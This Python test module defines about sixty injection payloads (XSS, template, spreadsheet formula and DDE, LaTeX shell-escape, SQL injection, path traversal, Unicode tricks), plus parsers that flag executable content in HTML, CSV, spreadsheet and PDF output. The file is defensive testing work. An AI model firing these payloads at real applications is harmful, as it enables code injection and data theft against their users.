"""Sixty hostile strings, and the readers that tell what of an answer would execute: a browser's, a spreadsheet's, a PDF reader's."""

import csv
import io
import json
import re
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path
from xml.etree import ElementTree

import streamlit
from openpyxl import load_workbook
from pypdf import PdfReader

HOSTILES = (
    "<script>alert(1)</script>", "<ScRiPt src=//x.fr/a.js>", "</script><script>alert(1)</script>", "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>", "<svg><animate onbegin=alert(1) attributeName=x>", "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href='javascript:alert(1)'>x</a>", "<body onload=alert(1)>", "<details open ontoggle=alert(1)>", "<math><mi xlink:href='javascript:alert(1)'>",
    "<style>@import 'http://x.fr/a.css'</style>", "<link rel=stylesheet href=//x.fr>", "<base href='//x.fr/'>", "<meta http-equiv=refresh content='0;url=//x.fr'>",
    "<form action=//x.fr><input name=q>", "<object data=//x.fr>", "<embed src=//x.fr>", "<!-- --><script>alert(1)</script>", "<![CDATA[<script>alert(1)</script>]]>",
    "\"><script>alert(1)</script>", "' onmouseover='alert(1)", "\" autofocus onfocus=\"alert(1)", "`${alert(1)}`", "{{7*7}} {% raw %}", "${7*7} #{7*7}",
    "<%= 7*7 %>", "{{constructor.constructor('alert(1)')()}}", "[clic](javascript:alert(1))", "![x](https://x.fr/a.png)", "<https://x.fr> *gras* `code`",
    "=HYPERLINK(\"http://x.fr\",\"x\")", "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1+1)", "=1+1", "\t=1+1", ";=1+1", "|=1+1", "%0A=1+1",
    "#import \"x.typ\"", "#read(\"/etc/passwd\")", "$ x^2 $ #eval(\"1\")", "\\input{/etc/passwd}", "\\write18{id}", "]]></title><script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;", "%3Cscript%3Ealert(1)%3C/script%3E", "\\u003cscript\\u003e", "'; drop table base.pratique; --",
    "\" or 1=1 --", "../../../../etc/passwd", "BEGIN:VEVENT", "Content-Type: text/html", "\u2066droite\u2069", "a\u202eexe.fdp", "nul\x00octet", "cloche\x07",
)  # fmt: skip
MAUVAIS = re.compile(r"^[\t\r\n ]*[=+\-@]")
ATTRIBUTS = re.compile(r"^on[a-z]+$")
ICI_AUSSI = frozenset({"application/ld+json", "application/json"})
_COQUILLE = (Path(streamlit.__file__).parent / "static" / "index.html").read_text("utf-8")
SCRIPTS_DE_STREAMLIT = frozenset(
    m.strip() for m in re.findall(r"<script>(.*?)</script>", _COQUILLE, re.DOTALL)
)
"""What its shell runs by itself, the same for everybody."""


class Lecteur(HTMLParser):
    """Notes what a browser would run: scripts of a text, handlers, addresses of another kind."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.fautes: list[str] = []
        self._en_ligne = False

    def handle_data(self, data: str) -> None:
        if self._en_ligne and data.strip() and data.strip() not in SCRIPTS_DE_STREAMLIT:
            self.fautes.append(f"<script>{data.strip()[:80]}")

    def handle_endtag(self, tag: str) -> None:
        self._en_ligne = self._en_ligne and tag != "script"

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        valeurs = dict(attrs)
        if tag == "script":
            self._en_ligne = valeurs.get("type") not in ICI_AUSSI and "src" not in valeurs
        if tag == "script" and (valeurs.get("src") or "").startswith(("//", "http")):
            self.fautes.append(f"<script {attrs}>")
        if tag in ("iframe", "object", "embed", "base", "math", "animate"):
            self.fautes.append(f"<{tag}>")
        for nom, valeur in attrs:
            adresse = re.sub(r"[\s\x00-\x1f]", "", valeur or "").lower()
            if ATTRIBUTS.match(nom):
                self.fautes.append(f"{tag} {nom}={valeur}")
            if nom in ("href", "src", "action", "xlink:href", "formaction") and adresse.startswith(
                ("javascript:", "data:text", "vbscript:", "//x.fr")
            ):
                self.fautes.append(f"{tag} {nom}={valeur}")


def fautes_de(adresse: str, type_mime: str, octets: bytes) -> Iterator[str]:
    """Yield what would execute in an answer, or why it does not read as what it says it is."""
    if type_mime == "text/html":
        lecteur = Lecteur()
        lecteur.feed(octets.decode())
        yield from lecteur.fautes
    elif type_mime == "text/csv":
        lignes = csv.reader(
            io.StringIO(octets.decode("utf-8-sig")), delimiter=";" if b";" in octets.split(b"\n")[0] else ","
        )
        yield from (
            cellule
            for ligne in lignes
            for cellule in ligne
            if MAUVAIS.match(cellule) and not _nombre(cellule)
        )
    elif "spreadsheet" in type_mime:
        classeur = load_workbook(io.BytesIO(octets))
        yield from (
            str(c.value) for f in classeur for ligne in f.iter_rows() for c in ligne if c.data_type == "f"
        )
    elif type_mime.endswith("json"):
        json.loads(octets)
    elif type_mime.endswith("xml") and "html" not in type_mime:
        ElementTree.fromstring(octets)
    elif type_mime == "application/pdf":
        lu = PdfReader(io.BytesIO(octets))
        texte_lu = str(lu.trailer["/Root"])
        yield from (quoi for quoi in ("/JavaScript", "/OpenAction", "/Launch") if quoi in texte_lu)


def _nombre(cellule: str) -> bool:
    return re.fullmatch(r"-?[0-9]+(?:[.,][0-9]+)?", cellule) is not None
